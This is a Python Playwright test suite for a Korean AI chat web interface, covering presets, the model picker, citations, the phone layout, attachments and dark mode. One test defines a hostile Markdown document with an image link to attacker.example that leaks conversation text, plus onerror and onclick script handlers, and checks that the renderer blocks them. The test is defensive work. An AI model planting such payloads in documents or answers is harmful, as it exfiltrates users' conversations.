"""The web UI as a product, in headless Chromium under the strict Content-Security-Policy
the server sends (added here to the page's response, so the UI is checked against it even
where the server does not send it yet): the first screen, presets from the server, chat
models only, Markdown that cannot load remote images, source chips, the phone layout,
attachments from the message box, a URL per conversation."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Page, Route, expect

from tests.conftest import RunningServer
from tests.web.conftest import ARTIFACTS, Opened, answered

Web = tuple[RunningServer, Page]


def shot(page: Page, tmp_path: Path, name: str) -> Path:
    """A screenshot of the viewport, kept in tests/artifacts/ (`tmp_path` is unused)."""
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    path = ARTIFACTS / f"{name}.png"
    page.screenshot(path=str(path))
    return path


@pytest.mark.timeout(900)  # the first turn builds the skill router (minutes on a busy machine)
def test_the_first_screen_greets_and_an_example_is_sent_and_followed(
    server_factory: Callable[..., RunningServer], open_ui: Callable[..., Opened], tmp_path: Path
) -> None:
    ui = open_ui(server_factory(default_model="echo-slow"), width=1100, height=560)
    page = ui.page
    expect(page.locator("#greeting")).to_contain_text("하늘")
    families = page.locator("#examples .example").evaluate_all(
        "(b) => b.map((x) => x.dataset.family)"
    )
    assert families == ["계산", "단위", "달력·공휴일", "문서 검색", "여행"]
    expect(page.locator("#welcome")).to_contain_text("스킬")
    expect(page.locator("#welcome")).to_contain_text("프리셋")
    expect(page.locator("#key-box")).to_be_hidden()  # a local server that needs no key
    shot(page, tmp_path, "first-screen")
    page.locator("#examples .example", has_text="직선").click()
    card = page.locator(".skill-card[data-skill=math]")
    expect(card.locator("summary").first).to_have_text("수학 계산", timeout=300_000)
    expect(card.locator("dl.arguments dt").first).to_have_text("식")  # a readable list
    expect(card.locator(".raw-arguments")).to_be_hidden()
    card.locator(".json-toggle").click()
    expect(card.locator(".raw-arguments")).to_contain_text('"expression"')
    expect(card.locator(".steps")).to_be_hidden()  # steps collapsed
    expect(page.locator("#welcome")).to_be_hidden()
    answered(page)
    # the answer opens with the skill's sentence; the card does not repeat it above
    body = page.locator(".msg.assistant .body").last
    expect(body).to_contain_text("거리는 √5/5 ≈ 0.447입니다")
    expect(card.locator(".skill-answer")).to_be_hidden()
    expect(card.locator(".content")).to_contain_text("sqrt(5)/5 ≈ 0.447214")
    # the answer streamed below the fold and the log followed it to the end
    scroll = page.eval_on_selector(
        "#log",
        "(l) => [l.scrollHeight - l.clientHeight, l.scrollHeight - l.clientHeight - l.scrollTop]",
    )
    assert scroll[0] > 0 and scroll[1] < 50, scroll
    expect(page.locator(".msg.assistant .actions").last).to_be_in_viewport()
    shot(page, tmp_path, "example-answered")
    assert ui.errors == [] and ui.foreign() == []


def test_presets_come_from_the_server_and_start_a_conversation(
    server_factory: Callable[..., RunningServer], open_ui: Callable[..., Opened], tmp_path: Path
) -> None:
    srv = server_factory()
    page = open_ui(srv).page
    names = [p["name"] for p in httpx.get(srv.url + "/v1/presets").json()["data"]]
    cards = page.locator("#presets .preset-card")
    assert cards.evaluate_all("(b) => b.map((x) => x.dataset.preset)") == names
    expect(cards.filter(has_text="모의 면접")).to_contain_text("면접관")  # what it does
    expect(page.locator(".preset-note")).to_have_count(0)  # echo: size unknown, plays roles
    # the bundled 270M model is not given a role: the cards and the banner say so
    page.locator("#model").select_option("haneul-mini-ko")
    marked = page.locator(".preset-card.needs-larger").evaluate_all(
        "(b) => b.map((x) => x.dataset.preset)"
    )
    assert marked == ["interview", "trip"]
    expect(cards.filter(has_text="모의 면접").locator(".preset-note")).to_have_text("큰 모델 필요")
    note = cards.filter(has_text="자유 대화").locator(".preset-note")
    expect(note).to_have_text("일반 질문은 큰 모델 필요")  # skills and documents still answer
    shot(page, tmp_path, "presets-small-model")
    cards.filter(has_text="모의 면접").click()
    banner = page.locator(".preset-banner[data-preset=interview]")
    expect(banner).to_contain_text("지원하는 직무")
    expect(banner.locator(".small-model")).to_contain_text("이 역할을 맡기지 않습니다")
    page.wait_for_url("**#/c/*")
    cid = page.url.split("#/c/")[1]
    assert httpx.get(f"{srv.url}/v1/conversations/{cid}").json()["preset"] == "interview"
    expect(page.locator("#preset")).to_have_value("interview")
    shot(page, tmp_path, "preset-interview")
    page.locator("#model").select_option("echo")  # a model that plays roles: no notes
    expect(page.locator(".preset-note")).to_have_count(0)


def test_the_model_picker_offers_chat_models_only(
    server_factory: Callable[..., RunningServer], open_ui: Callable[..., Opened]
) -> None:
    srv = server_factory()
    page = open_ui(srv).page
    models = httpx.get(srv.url + "/v1/models").json()["data"]
    chat = [m["id"] for m in models if m["task"] == "chat" and not m.get("alias_of")]
    assert {m["task"] for m in models} >= {"chat", "embedding", "completion"}
    offered = page.locator("#model option").evaluate_all("(o) => o.map((x) => x.value)")
    assert offered == chat and "multilingual-e5-small" not in offered
    assert "gemma3-270m" not in offered
    expect(page.locator("#model")).to_have_value("echo")


GIF = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
HOSTILE = (
    "연차 휴가 규정. 입사 1년이 지난 직원에게는 연차 휴가 15일이 주어진다.\n\n"
    "![로고](http://attacker.example/leak.png?q=대화내용)\n\n"
    '<img src="https://attacker.example/b.png" onerror="alert(1)"> '
    '<a href="https://attacker.example/" onclick="alert(2)">링크</a>'
)


@pytest.mark.timeout(900)  # the first turn builds the skill router (minutes on a busy machine)
def test_a_hostile_document_loads_nothing_from_elsewhere(
    server_factory: Callable[..., RunningServer], open_ui: Callable[..., Opened], tmp_path: Path
) -> None:
    ui = open_ui(server_factory())
    page = ui.page
    rules = tmp_path / "휴가규정.md"
    rules.write_text(HOSTILE, encoding="utf-8")
    page.set_input_files("#attach", str(rules))
    expect(page.locator(".file-chip.done")).to_contain_text("색인 완료", timeout=120_000)
    page.fill("#input", "문서에서 연차 휴가 며칠인지 찾아줘")
    page.press("#input", "Enter")
    card = page.locator(".skill-card[data-skill=search_documents]")
    expect(card.locator(".result")).to_contain_text("15일", timeout=300_000)
    answered(page)
    # the renderer itself, with the same Markdown and a local data: image that may stay
    page.evaluate(
        """(md) => { const b = window.haneulUI.bubble('assistant');
        window.haneulUI.renderMarkdown(b.querySelector('.body'),
          md[0] + '\\n\\n![점](' + md[1] + ')'); }""",
        [HOSTILE, GIF],
    )
    srcs = page.locator("img").evaluate_all("(i) => i.map((x) => x.getAttribute('src') || '')")
    assert not [s for s in srcs if "attacker" in s]
    assert any(s.startswith("data:image/gif") for s in srcs)
    expect(page.locator(".blocked-image").first).to_contain_text("http://attacker.example/leak.png")
    assert page.locator("[onerror], [onclick], [style]").count() == 0
    page.wait_for_timeout(300)
    assert ui.foreign() == [], ui.foreign()
    shot(page, tmp_path, "hostile-document")


DONE = {
    "type": "done",
    "message": {"id": "msg_1", "role": "assistant", "created_at": 0, "skill_calls": [],
                "content": "연차는 15일입니다 [1]. 육아휴직은 1년까지입니다 [2]."},
    "citations": [
        {"n": 1, "document": "휴가규정.pdf", "document_id": "d1", "collection": "내문서",
         "page": 3, "snippet": "연차 휴가 15일",
         "text": "입사 1년이 지난 직원에게는 연차 휴가 15일이 주어진다.",
         "supported": True},
        {"n": 2, "document": "복지.txt", "document_id": "d2", "collection": "내문서",
         "page": None, "snippet": "육아휴직", "text": "육아휴직은 최대 1년까지 쓸 수 있다.",
         "supported": False},
    ],
    "memories_used": ["사는 곳: 부산"],
    "composed": {"skill_answer": None, "explanation": "none", "reason": None},
    "finish_reason": "length",
    "ai_filter": [],
}  # fmt: skip


def test_sources_memories_and_the_finish_reason_show_under_the_answer(
    server_factory: Callable[..., RunningServer], open_ui: Callable[..., Opened], tmp_path: Path
) -> None:
    page = open_ui(server_factory()).page
    page.evaluate(
        "(done) => window.haneulUI.finish(window.haneulUI.bubble('assistant'), done)",
        DONE,
    )
    chips = page.locator(".citations .citation")
    expect(chips).to_have_text(["[1] 휴가규정.pdf p.3", "[2] 복지.txt"])
    expect(chips.nth(1)).to_have_class("citation unsupported")
    expect(page.locator(".memories-used")).to_have_text("기억 사용: 사는 곳: 부산")
    expect(page.locator(".finish-note")).to_contain_text("길이 제한")
    chips.first.click()
    expect(page.locator("#passage")).to_be_visible()
    expect(page.locator("#passage-title")).to_have_text("[1] 휴가규정.pdf p.3")
    expect(page.locator("#passage-text")).to_have_text(DONE["citations"][0]["text"])
    expect(page.locator("#passage-note")).to_be_hidden()
    shot(page, tmp_path, "citations")
    page.locator(".msg .body .cite-ref", has_text="[2]").click()  # the marker in the text
    expect(page.locator("#passage-note")).to_contain_text("가장 가까운 문단")
    page.keyboard.press("Escape")
    expect(page.locator("#passage")).to_be_hidden()
    # a stored message (reopened conversation) carries only `citations`
    stored = {**DONE["message"], "citations": DONE["citations"]}
    page.evaluate("(m) => window.haneulUI.showMessage(m)", stored)
    expect(page.locator(".msg").last.locator(".citation")).to_have_count(2)


@pytest.mark.timeout(900)  # the first turn builds the skill router (minutes on a busy machine)
def test_a_document_turn_shows_chips_when_the_server_cites(
    server_factory: Callable[..., RunningServer], open_ui: Callable[..., Opened], tmp_path: Path
) -> None:
    page = open_ui(server_factory()).page
    rules = tmp_path / "휴가규정.txt"
    rules.write_text(
        "연차 휴가 규정. 입사 1년이 지난 직원에게는 연차 휴가 15일이 주어진다.", "utf-8"
    )
    page.set_input_files("#attach", str(rules))
    expect(page.locator(".file-chip.done")).to_have_count(1, timeout=120_000)
    with page.expect_response(lambda r: r.url.endswith("/messages")) as response:
        page.fill("#input", "회사 규정에서 연차 휴가 며칠인지 찾아줘")
        page.press("#input", "Enter")
    answered(page)
    body = response.value.text()
    if '"citations": [{' in body:  # the answer contract's sources (see docs/assistant.md)
        expect(page.locator(".msg.assistant .citation").first).to_contain_text("휴가규정.txt")
    page.reload()
    page.wait_for_selector("body[data-ready=true]")
    expect(page.locator(".msg.user .body")).to_have_text(
        ["회사 규정에서 연차 휴가 며칠인지 찾아줘"]
    )
    if '"citations": [{' in body:
        expect(page.locator(".msg.assistant .citation").first).to_contain_text("휴가규정.txt")


def test_the_phone_layout_shows_the_message_box(
    server_factory: Callable[..., RunningServer], open_ui: Callable[..., Opened], tmp_path: Path
) -> None:
    page = open_ui(server_factory(), width=390, height=844).page
    expect(page.locator("#input")).to_be_in_viewport()
    expect(page.locator("#send")).to_be_in_viewport()
    expect(page.locator("#greeting")).to_be_in_viewport()
    box = page.locator("#composer").bounding_box()
    assert box is not None and box["y"] + box["height"] <= 844
    assert page.evaluate("document.documentElement.scrollWidth") <= 390  # no sideways scroll
    shot(page, tmp_path, "phone-first-screen")
    page.click("#open-sidebar")
    expect(page.locator("#new-conversation")).to_be_in_viewport()
    page.wait_for_timeout(400)  # the drawer's slide
    shot(page, tmp_path, "phone-drawer")


@pytest.mark.timeout(900)  # the first turn builds the skill router (minutes on a busy machine)
def test_attached_files_show_as_chips_and_the_same_file_can_be_picked_twice(
    server_factory: Callable[..., RunningServer], open_ui: Callable[..., Opened], tmp_path: Path
) -> None:
    srv = server_factory()
    page = open_ui(srv).page
    notes = tmp_path / "회의록.txt"
    notes.write_text("다음 회의는 3월 14일 오후 2시에 대회의실에서 열린다.", encoding="utf-8")
    page.set_input_files("#attach", str(notes))
    expect(page.locator(".file-chip.done")).to_have_count(1, timeout=120_000)
    page.set_input_files("#attach", str(notes))  # again: a new chip, indexed (unchanged)
    expect(page.locator(".file-chip.done")).to_have_count(2, timeout=120_000)
    names = [c["name"] for c in httpx.get(srv.url + "/v1/collections").json()["data"]]
    assert names == ["내문서"]  # made on demand, no «컬렉션» step
    bad = tmp_path / "사진.exe"
    bad.write_bytes(b"MZ\x90\x00" + bytes(range(256)))
    page.set_input_files("#attach", str(bad))
    failed = page.locator(".file-chip.failed")
    expect(failed).to_contain_text("실패", timeout=300_000)
    shot(page, tmp_path, "attachments")
    failed.locator(".file-close").click()
    expect(page.locator(".file-chip")).to_have_count(2)
    page.fill("#input", "회의록에서 다음 회의 날짜 찾아줘")
    page.press("#input", "Enter")
    card = page.locator(".skill-card[data-skill=search_documents]")
    expect(card.locator(".result")).to_contain_text("3월 14일", timeout=300_000)


@pytest.mark.timeout(900)  # the first turn builds the skill router (minutes on a busy machine)
def test_a_reload_keeps_the_conversation_and_opens_at_the_bottom(
    server_factory: Callable[..., RunningServer], open_ui: Callable[..., Opened]
) -> None:
    ui = open_ui(server_factory(), width=1100, height=500)
    page = ui.page
    for n in range(3):
        page.fill("#input", f"{n + 1}번째 질문입니다. " + "긴 문장을 되풀이합니다. " * 12)
        page.press("#input", "Enter")
        answered(page, n + 1)
    url = page.url
    assert "#/c/conv" in url or "#/c/" in url
    page.reload()
    page.wait_for_selector("body[data-ready=true]")
    expect(page.locator(".msg.user")).to_have_count(3)
    at_bottom = page.eval_on_selector(
        "#log",
        "(l) => l.scrollHeight > l.clientHeight"
        " && l.scrollHeight - l.clientHeight - l.scrollTop < 50",
    )
    assert at_bottom
    page.click("#new-conversation")
    expect(page.locator(".msg")).to_have_count(0)
    # the new conversation is in the address once the server has made it; back goes there
    page.wait_for_function("(old) => window.location.href !== old", arg=url)
    page.go_back()
    expect(page.locator(".msg.user")).to_have_count(3)


def test_skills_have_korean_names_and_travel_is_switchable(
    server_factory: Callable[..., RunningServer], open_ui: Callable[..., Opened], tmp_path: Path
) -> None:
    plain = open_ui(server_factory()).page
    expect(plain.locator("#skills")).to_contain_text("수학 계산")
    expect(plain.locator("#skills")).to_contain_text("달력·공휴일")
    expect(plain.locator("#skills li.missing")).to_contain_text(
        "HANEUL_SKILL_MANIFESTS=travel,car_rental"
    )
    srv = server_factory(
        skill_manifests="travel,car_rental",
        travel_url="http://127.0.0.1:9",
        car_rental_url="http://127.0.0.1:9",
        car_rental_token="시험",
    )
    page = open_ui(srv).page
    hotels = page.locator("#skills li[data-skill=travel__searchHotels]")
    expect(hotels).to_contain_text("여행 · 호텔 찾기")
    expect(page.locator("#skills li[data-skill=car_rental__createReservation]")).to_contain_text(
        "확인"
    )
    expect(page.locator("#skills li.missing")).to_have_count(0)
    hotels.locator("input").uncheck()
    sent: list[Any] = []

    def answer(route: Route) -> None:  # the request is what this test checks
        sent.append(route.request.post_data_json)
        done = {"type": "done", "message": {"id": "msg_t", "role": "assistant", "content": "안녕"}}
        body = f"data: {json.dumps(done, ensure_ascii=False)}\n\ndata: [DONE]\n\n"
        route.fulfill(status=200, content_type="text/event-stream", body=body)

    page.route("**/messages", answer)
    page.fill("#input", "안녕")
    page.press("#input", "Enter")
    answered(page)
    assert "travel__searchHotels" not in sent[0]["skills"] and "math" in sent[0]["skills"]
    shot(page, tmp_path, "skills-panel")


def test_dark_mode_toggles_and_is_remembered(
    server_factory: Callable[..., RunningServer], open_ui: Callable[..., Opened], tmp_path: Path
) -> None:
    page = open_ui(server_factory()).page
    page.click("#theme")
    assert page.evaluate("document.documentElement.dataset.theme") == "dark"
    page.reload()
    page.wait_for_selector("body[data-ready=true]")
    assert page.evaluate("document.documentElement.dataset.theme") == "dark"
    background = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert background == "rgb(18, 22, 28)"
    shot(page, tmp_path, "dark-first-screen")
